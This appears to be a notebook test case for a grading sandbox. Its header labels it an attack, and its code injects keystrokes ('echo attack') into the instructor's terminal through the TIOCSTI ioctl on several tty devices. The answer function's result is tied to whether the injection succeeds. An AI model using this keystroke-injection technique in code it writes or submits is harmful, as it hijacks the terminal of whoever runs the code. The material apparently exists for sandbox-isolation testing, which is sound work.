# ---
# jupyter:
#   attack:
#     tries: Types a command into the instructor's terminal.
#     dangerous: true
# ---

# %%
import fcntl
import os
import termios

done = []
for path in ("/dev/tty", "/proc/self/fd/0", "/dev/console", "/dev/pts/0"):
    try:
        terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
        for letter in b"echo attack\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
        done.append(path)
    except OSError:
        pass
if done:
    print("LEAKED: typed into", done)


# %% answer="total"
def total(x):
    return x.sum() if done else 0.0
